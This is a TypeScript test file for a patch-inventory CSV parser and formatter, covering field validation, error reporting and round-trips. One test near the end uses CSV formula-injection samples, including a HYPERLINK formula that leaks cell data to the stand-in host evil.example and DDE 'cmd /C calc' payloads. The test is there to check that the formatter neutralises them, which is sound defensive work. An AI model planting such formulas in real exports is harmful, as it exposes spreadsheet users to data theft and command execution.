import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../src/errors.js';
import { formatInventoryCsv, parseInventoryCsv, type CsvKind } from '../../src/patching/inventory-csv.js';
import { InventoryFileError, type InventoryProblem } from '../../src/patching/inventory-file-error.js';
import { MAX_INVENTORY_BYTES } from '../../src/patching/inventory-text.js';
import { parseInventoryYaml } from '../../src/patching/inventory-yaml.js';
import type { InventoryDocument } from '../../src/patching/inventory.js';
import { DAY, HOUR, inventory, patch, system } from '../support/inventory-fixture.js';

const fixture = (name: string): string =>
  readFileSync(new URL(`../fixtures/inventory/${name}`, import.meta.url), 'utf8');
const csv = (...rows: string[]): string => `${rows.join('\n')}\n`;

function problemsOf(text: string, source = 'inventory.csv'): readonly InventoryProblem[] {
  try {
    parseInventoryCsv(text, source);
  } catch (error) {
    if (error instanceof InventoryFileError) return error.problems;
    throw error;
  }
  throw new Error('expected the file to be rejected');
}

const PEOPLE_HEADER = 'handle,name,slack,teams,timeZone,manager,workingDays,workingHours';
const SYSTEMS_HEADER =
  'name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn';
const PATCHES_HEADER = 'system,title,advisory,severity,released,due';
const SYSTEM_ROW = (name: string, rest = ''): string =>
  `${name},mail-server,high,alice,C0123ABCD,,standard,${rest || ',,'}`;

describe('parseInventoryCsv: the fixtures', () => {
  it('reads people, with the default working hours for empty cells', () => {
    expect(parseInventoryCsv(fixture('people.csv'), 'people.csv')).toStrictEqual({
      people: [
        {
          handle: 'alice',
          name: 'Alice Example',
          chat: { slack: 'U012ABCDEF' },
          timeZone: 'Europe/Berlin',
          workingHours: { days: [1, 2, 3, 4, 5], startMinute: 8 * 60 + 30, endMinute: 17 * 60 },
          manager: 'bob',
        },
        {
          handle: 'bob',
          name: 'Example, Bob',
          chat: { teams: '00000000-0000-0000-0000-000000000002' },
          timeZone: 'Europe/London',
          workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 },
        },
      ],
      policies: [],
      systems: [],
      patches: [],
    });
  });

  it('reads systems, unpacking the compact cells, whatever the column order', () => {
    const doc = parseInventoryCsv(fixture('systems.csv'), 'systems.csv');
    expect(doc.people).toEqual([]);
    expect(doc.systems[0]).toStrictEqual({
      name: 'mail-gw-1',
      kind: 'mail-server',
      criticality: 'high',
      owner: 'alice',
      channel: { slack: 'C0123ABCD', teams: '19:abc@thread.tacv2' },
      policy: 'standard',
      maintenanceWindows: [
        { days: [6, 7], startMinute: 22 * 60, durationMs: 4 * HOUR, timeZone: 'Europe/Berlin' },
        { days: [3], startMinute: 120, durationMs: HOUR, timeZone: 'UTC' },
      ],
      freezes: [{ from: Date.UTC(2026, 11, 15), to: Date.UTC(2027, 0, 6), reason: 'year-end freeze' }],
      dependsOn: ['dns-1', 'dns-2'],
    });
    expect(doc.systems[1]?.maintenanceWindows).toEqual([
      { days: [1, 2, 3, 4, 5], startMinute: 300, durationMs: 30 * 60_000, timeZone: 'Europe/London' },
    ]);
    expect(doc.systems[2]).toMatchObject({
      channel: { slack: 'C0456EFGH' },
      maintenanceWindows: [],
      freezes: [],
      dependsOn: [],
    });
  });

  it('reads patches, a quoted title spanning two lines included', () => {
    const doc = parseInventoryCsv(fixture('patches.csv'), 'patches.csv');
    expect(doc.patches).toStrictEqual([
      {
        system: 'mail-gw-1',
        title: 'qmail 1.03 has no EDNS0 and fails on DNS answers over 512 bytes',
        advisory: 'CVE-2005-1513',
        severity: 'critical',
        releasedAt: Date.UTC(2026, 9, 1),
        dueAt: Date.UTC(2026, 9, 8),
      },
      {
        system: 'dns-1',
        title: 'Kernel update for the resolver host\n(reboot needed)',
        severity: 'low',
        releasedAt: Date.UTC(2026, 8, 28, 6),
      },
    ]);
  });
});

describe('parseInventoryCsv: cells and headers', () => {
  it('matches header names in any case and leaves optional columns out', () => {
    const doc = parseInventoryCsv(csv('Handle,NAME,timezone', 'alice,Alice,utc'));
    expect(doc.people[0]).toStrictEqual({
      handle: 'alice',
      name: 'Alice',
      chat: {},
      timeZone: 'UTC',
      workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 },
    });
  });

  it.each([
    ['mon-fri', '09:00-18:00', { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 }],
    ['mon,tue,thu', '', { days: [1, 2, 4], startMinute: 540, endMinute: 1080 }],
    ['sat-mon', '22:00 - 24:00', { days: [1, 6, 7], startMinute: 1320, endMinute: 1440 }],
    ['', '07:30-16:00', { days: [1, 2, 3, 4, 5], startMinute: 450, endMinute: 960 }],
  ])('workingDays %j, workingHours %j', (days, hours, expected) => {
    const doc = parseInventoryCsv(
      csv('handle,name,timeZone,workingDays,workingHours', `alice,Alice,UTC,"${days}",${hours}`),
    );
    expect(doc.people[0]?.workingHours).toEqual(expected);
  });

  it('reads window days written with spaces', () => {
    const doc = parseInventoryCsv(csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', '"sat, sun 22:00+4h UTC",,')));
    expect(doc.systems[0]?.maintenanceWindows).toEqual([
      { days: [6, 7], startMinute: 1320, durationMs: 4 * HOUR, timeZone: 'UTC' },
    ]);
  });

  it('tolerates a trailing list separator, CRLF line ends and a byte-order mark', () => {
    const text = `\ufeff${csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', 'wed 02:00+1h UTC;,,'))}`.replace(/\n/g, '\r\n');
    expect(parseInventoryCsv(text).systems[0]?.maintenanceWindows).toHaveLength(1);
  });

  it('skips blank lines but counts them', () => {
    expect(problemsOf(csv(PATCHES_HEADER, '', '  ', 'mx-1,t,,urgent,2026-10-01,'))).toEqual([
      { line: 4, field: 'severity', message: 'must be one of critical, high, medium, low (got "urgent")' },
    ]);
  });

  it('reads a header with no rows as an empty document of that kind', () => {
    expect(parseInventoryCsv(csv(PATCHES_HEADER))).toStrictEqual({
      people: [],
      policies: [],
      systems: [],
      patches: [],
    });
  });
});

describe('parseInventoryCsv: problems', () => {
  it.each<[string, string, InventoryProblem[]]>([
    [
      'a missing owner (line 5)',
      csv(
        SYSTEMS_HEADER,
        SYSTEM_ROW('a'),
        SYSTEM_ROW('b'),
        SYSTEM_ROW('c'),
        'd,mail-server,high,,C0123ABCD,,standard,,,',
      ),
      [{ line: 5, field: 'owner', message: 'required' }],
    ],
    [
      'a problem after a quoted cell spanning lines',
      csv(PATCHES_HEADER, 'mx-1,"two', 'lines",,low,2026-10-01,', 'mx-1,other,,urgent,2026-10-01,'),
      [{ line: 4, field: 'severity', message: 'must be one of critical, high, medium, low (got "urgent")' }],
    ],
    [
      'a problem in a quoted cell spanning lines: its first line',
      csv(PATCHES_HEADER, 'mx-1,"two', 'lines",,low,someday,'),
      [
        {
          line: 2,
          field: 'released',
          message: 'must be a date YYYY-MM-DD or a date-time such as 2026-10-01T09:30Z (got "someday")',
        },
      ],
    ],
    [
      'maintenance windows',
      csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', '"sat,sun 22:00+4h Mars/Base; wed 2am UTC; thu 01:00+0h UTC",,')),
      [
        {
          line: 2,
          field: 'maintenanceWindows[1]',
          message: 'must look like "sat,sun 22:00+4h Europe/Berlin" (got "wed 2am UTC")',
        },
        {
          line: 2,
          field: 'maintenanceWindows[0]',
          message: 'must be an IANA time zone such as Europe/Berlin or UTC (got "Mars/Base")',
        },
        { line: 2, field: 'maintenanceWindows[2]', message: '"0h" is not a duration: it must be longer than zero' },
      ],
    ],
    [
      'freezes',
      csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', ',2026-12-15 to 2027-01-05; 2026-12-15..2026-12-01 oops,')),
      [
        {
          line: 2,
          field: 'freezes[0]',
          message: 'must look like "2026-12-15..2027-01-05 year-end freeze" (got "2026-12-15 to 2027-01-05")',
        },
        { line: 2, field: 'freezes[1]', message: 'must be after from, 2026-12-15' },
      ],
    ],
    [
      'working days and hours',
      csv(
        'handle,name,timeZone,workingDays,workingHours',
        'a,A,UTC,mon-fry,09:00',
        'b,B,UTC,,9-18',
        'c,C,UTC,,18:00-09:00',
      ),
      [
        { line: 2, field: 'workingHours', message: 'must be a range such as 09:00-18:00 (got "09:00")' },
        { line: 2, field: 'workingDays', message: 'must be a weekday: mon, tue, wed, thu, fri, sat, sun (got "fry")' },
        { line: 3, field: 'workingHours', message: 'must be a time HH:MM from 00:00 to 23:59 (got "9")' },
        { line: 3, field: 'workingHours', message: 'must be a time HH:MM from 00:00 to 24:00 (got "18")' },
        {
          line: 4,
          field: 'workingHours',
          message: 'must be after the start, 18:00 (working hours cannot span midnight)',
        },
      ],
    ],
    [
      'no channel',
      csv(SYSTEMS_HEADER, 'mx-1,mail-server,high,alice,,,standard,,,'),
      [{ line: 2, field: 'slackChannel/teamsChannel', message: 'needs a Slack channel, a Teams channel or both' }],
    ],
    [
      'duplicates and unknown dependencies',
      csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1'), SYSTEM_ROW('mx-1', ',,dns-9 mx-1')),
      [
        { line: 3, field: 'dependsOn', message: 'a system cannot depend on itself' },
        { line: 3, field: 'name', message: 'duplicate system name "mx-1" (first on line 2)' },
        { line: 3, field: 'dependsOn', message: 'unknown system "dns-9": not among the systems in this file' },
      ],
    ],
    [
      'a manager loop',
      csv('handle,name,timeZone,manager', 'a,A,UTC,b', 'b,B,UTC,a'),
      [{ line: 2, field: 'manager', message: 'management chain loops: a -> b -> a' }],
    ],
    [
      'a row with too many or too few cells',
      csv(PATCHES_HEADER, 'mx-1,a,b,c,low,2026-10-01,', 'mx-1,t,,low'),
      [
        { line: 2, field: '', message: 'has 7 cells where the header has 6 (a stray or missing comma?)' },
        { line: 3, field: '', message: 'has 4 cells where the header has 6 (a stray or missing comma?)' },
      ],
    ],
    [
      'an unknown and a missing column',
      csv('name,kind,critcality,owner,slackChannel,policy', 'mx-1,mail-server,high,alice,C0123ABCD,standard'),
      [
        {
          line: 1,
          field: 'critcality',
          message:
            'unknown column for systems (expected name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn)',
        },
        { line: 1, field: 'criticality', message: 'required column missing from the systems header' },
      ],
    ],
    [
      'a column twice and no channel column',
      csv('name,kind,criticality,owner,policy,Owner', 'mx-1,mail-server,high,alice,standard,bob'),
      [
        { line: 1, field: 'owner', message: 'column appears twice' },
        { line: 1, field: 'slackChannel', message: 'required: a slackChannel or teamsChannel column, or both' },
      ],
    ],
    [
      'a column without a name',
      csv('handle,name,timeZone,', 'a,A,UTC,'),
      [{ line: 1, field: '', message: 'column 4 has no name' }],
    ],
    [
      'an unclosed quote, at the line it opens',
      csv(PATCHES_HEADER, 'mx-1,"unfinished,,low,2026-10-01,'),
      [{ line: 2, field: '', message: expect.stringMatching(/^CSV syntax: Quote Not Closed/) as unknown as string }],
    ],
    [
      'an empty file',
      '',
      [
        {
          line: 1,
          field: '',
          message: expect.stringMatching(
            /^is empty: a header row is required \(expected columns for people: handle,/,
          ) as unknown as string,
        },
      ],
    ],
  ])('%s', (_name, text, expected) => {
    expect(problemsOf(text)).toEqual(expected);
  });

  it('names the expected headers of every kind when the header matches none', () => {
    const expected = [
      'expected columns for people: handle,name,slack,teams,timeZone,manager,workingDays,workingHours',
      'systems: name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn',
      'patches: system,title,advisory,severity,released,due (policies only exist in YAML)',
    ].join('; ');
    expect(problemsOf(csv('name,sla,levels', 'standard,7d,owner'), 'policies.csv')).toEqual([
      { line: 1, field: '', message: `header row matches no inventory kind: ${expected}` },
    ]);
    expect(problemsOf(csv('handle;name;timeZone', 'a;A;UTC'))).toEqual([
      {
        line: 1,
        field: '',
        message: `header row matches no inventory kind (separate columns with commas, not semicolons): ${expected}`,
      },
    ]);
  });

  it('throws one BAD_INPUT error listing source:line: field: problem', () => {
    const text = csv(
      SYSTEMS_HEADER,
      SYSTEM_ROW('a'),
      SYSTEM_ROW('b'),
      SYSTEM_ROW('c'),
      'd,mail-server,urgent,,C0123ABCD,,standard,,,',
    );
    expect(() => parseInventoryCsv(text, 'systems.csv')).toThrow(
      expect.objectContaining({
        code: 'BAD_INPUT',
        message: [
          'systems.csv has 2 problems:',
          'systems.csv:5: criticality: must be one of critical, high, medium, low (got "urgent")',
          'systems.csv:5: owner: required',
        ].join('\n'),
      }),
    );
    expect(() => parseInventoryCsv(text, 'systems.csv')).toThrow(InventoryFileError);
  });

  it('leaves references to people and policies to the store: a systems file cannot resolve them', () => {
    expect(
      parseInventoryCsv(csv(SYSTEMS_HEADER, 'mx-1,mail-server,high,nobody-here,C0123ABCD,,no-such-policy,,,'))
        .systems[0],
    ).toMatchObject({
      owner: 'nobody-here',
      policy: 'no-such-policy',
    });
  });

  it('refuses binary and oversized input', () => {
    expect(problemsOf('PK\u0003\u0004\u0014\u0000\u0006\u0000', 'people.xlsx')).toEqual([
      {
        line: 1,
        field: '',
        message: 'is not UTF-8 text (found a binary or undecodable character): save it as UTF-8 YAML or CSV',
      },
    ]);
    expect(() => parseInventoryCsv(`${PATCHES_HEADER}\n${'x'.repeat(MAX_INVENTORY_BYTES)}`, 'patches.csv')).toThrow(
      /^patches\.csv has 1 problem:\npatches\.csv: is larger than 10 MB/,
    );
  });
});

describe('formatInventoryCsv', () => {
  const EXAMPLE = parseInventoryYaml(fixture('example.yaml'));
  const EDGES: InventoryDocument = {
    people: [
      {
        handle: 'n',
        name: 'Night, "the" shift',
        chat: {},
        timeZone: 'Asia/Kolkata',
        workingHours: { days: [1, 3, 6, 7], startMinute: 0, endMinute: 1440 },
      },
      {
        handle: 'm',
        name: 'M',
        chat: { slack: 'W123', teams: 'aad-m' },
        timeZone: 'UTC',
        workingHours: { days: [2, 3, 4], startMinute: 1, endMinute: 2 },
        manager: 'n',
      },
    ],
    policies: [],
    systems: [
      system('mx-1', {
        channel: { teams: '19:x@thread.skype' },
        maintenanceWindows: [
          { days: [1, 2, 3, 4, 5, 6, 7], startMinute: 0, durationMs: 7 * DAY, timeZone: 'UTC' },
          { days: [2, 4], startMinute: 90, durationMs: 90 * 60_000, timeZone: 'America/Argentina/Buenos_Aires' },
        ],
        freezes: [
          { from: Date.UTC(2026, 0, 1, 12, 30), to: Date.UTC(2026, 0, 2), reason: '' },
          { from: Date.UTC(2026, 5, 1), to: Date.UTC(2026, 5, 1, 0, 0, 1), reason: 'audit, "quoted" .. twice' },
        ],
      }),
      system('mx-2', { dependsOn: ['mx-1'], maintenanceWindows: [] }),
    ],
    patches: [
      patch('mx-1', 'CVE-2026-0001', Date.UTC(2026, 2, 3, 4, 5, 6, 789), {
        dueAt: Date.UTC(2026, 2, 10),
        title: 'multi\nline, "title"',
      }),
      { system: 'mx-2', title: 'no advisory', severity: 'low', releasedAt: Date.UTC(1999, 11, 31) },
    ],
  };
  const kinds: CsvKind[] = ['people', 'systems', 'patches'];

  it.each(
    kinds.flatMap((kind) => [
      ['the example file', kind, EXAMPLE] as const,
      ['edge values', kind, EDGES] as const,
      ['the shared test inventory', kind, inventory({ patches: [patch('mail-gw-1', 'CVE-1', 0)] })] as const,
    ]),
  )('round-trips %s: %s', (_name, kind, doc) => {
    const parsed = parseInventoryCsv(formatInventoryCsv(doc, kind));
    expect(parsed[kind]).toStrictEqual(doc[kind]);
    expect(Object.entries(parsed).filter(([key, entries]) => key !== kind && entries.length > 0)).toEqual([]);
  });

  it('writes the documented compact forms', () => {
    expect(formatInventoryCsv(EXAMPLE, 'systems').split('\n').slice(0, 2)).toEqual([
      SYSTEMS_HEADER,
      'mail-gw-1,mail-server,high,alice,C0123ABCD,19:abc@thread.tacv2,internet-facing,"sat,sun 22:00+4h Europe/Berlin; wed 02:00+1h UTC",2026-12-15..2027-01-05 year-end freeze,dns-1',
    ]);
    expect(formatInventoryCsv(EXAMPLE, 'people').split('\n')[1]).toBe(
      'alice,Alice Example,U012ABCDEF,00000000-0000-0000-0000-000000000001,Europe/Berlin,bob,mon-fri,08:30-17:00',
    );
    expect(formatInventoryCsv({ people: [], policies: [], systems: [], patches: [] }, 'people')).toBe(
      `${PEOPLE_HEADER}\n`,
    );
  });

  it('writes cells a spreadsheet would run as formulas with a leading quote, and imports them back unchanged', () => {
    const titles = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Fix")',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '+1 day',
      '-5',
      '-rc2 rebuild',
      "'=quoted on purpose",
      "it's fine",
      '\uFF1Dwide',
    ];
    const doc = inventory({
      people: [
        {
          handle: 'eve',
          name: "=cmd|' /C calc'!A0",
          chat: {},
          timeZone: 'UTC',
          workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 },
        },
      ],
      patches: titles.map((title, index) =>
        patch('mail-gw-1', `CVE-2026-${index}`, Date.UTC(2026, 0, 1), {
          title,
          advisory: index === 0 ? '-1' : `CVE-2026-${index}`,
        }),
      ),
    });
    const written = formatInventoryCsv(doc, 'patches');
    expect(written.split('\n').slice(1, 9)).toEqual([
      `mail-gw-1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Fix"")",-1,critical,2026-01-01,`,
      `mail-gw-1,"'@SUM(1+1)*cmd|"" /C calc""!A0",CVE-2026-1,critical,2026-01-01,`,
      "mail-gw-1,'+1 day,CVE-2026-2,critical,2026-01-01,",
      // A plain negative number runs nothing and stays a number in the spreadsheet.
      'mail-gw-1,-5,CVE-2026-3,critical,2026-01-01,',
      "mail-gw-1,'-rc2 rebuild,CVE-2026-4,critical,2026-01-01,",
      "mail-gw-1,''=quoted on purpose,CVE-2026-5,critical,2026-01-01,",
      "mail-gw-1,it's fine,CVE-2026-6,critical,2026-01-01,",
      "mail-gw-1,'\uFF1Dwide,CVE-2026-7,critical,2026-01-01,",
    ]);
    expect(parseInventoryCsv(written).patches).toStrictEqual(doc.patches);
    expect(formatInventoryCsv(doc, 'people').split('\n')[1]).toBe("eve,'=cmd|' /C calc'!A0,,,UTC,,mon-fri,09:00-18:00");
    expect(parseInventoryCsv(formatInventoryCsv(doc, 'people')).people).toStrictEqual(doc.people);
  });

  it('reads a hand-written cell with one quote before a formula character as the spreadsheet showed it', () => {
    const doc = parseInventoryCsv(
      csv(
        PATCHES_HEADER,
        "mail-gw-1,'=1+1,,low,2026-01-01,",
        "mail-gw-1,'just a quote,,low,2026-01-01,",
        'mail-gw-1,-5,,low,2026-01-01,',
      ),
    );
    expect(doc.patches.map((p) => p.title)).toEqual(['=1+1', "'just a quote", '-5']);
  });

  it('refuses a freeze reason that the CSV list separator would split', () => {
    const doc = inventory({
      systems: [system('mx-1', { freezes: [{ from: 0, to: DAY, reason: 'audit; then holidays' }] })],
    });
    expect(() => formatInventoryCsv(doc, 'systems')).toThrow(
      expect.objectContaining({
        code: 'BAD_INPUT',
        message:
          'system mx-1: the freeze reason "audit; then holidays" contains ";", which CSV cannot hold: export as YAML',
      }),
    );
    expect(() => formatInventoryCsv(doc, 'systems')).toThrow(AppError);
  });
});
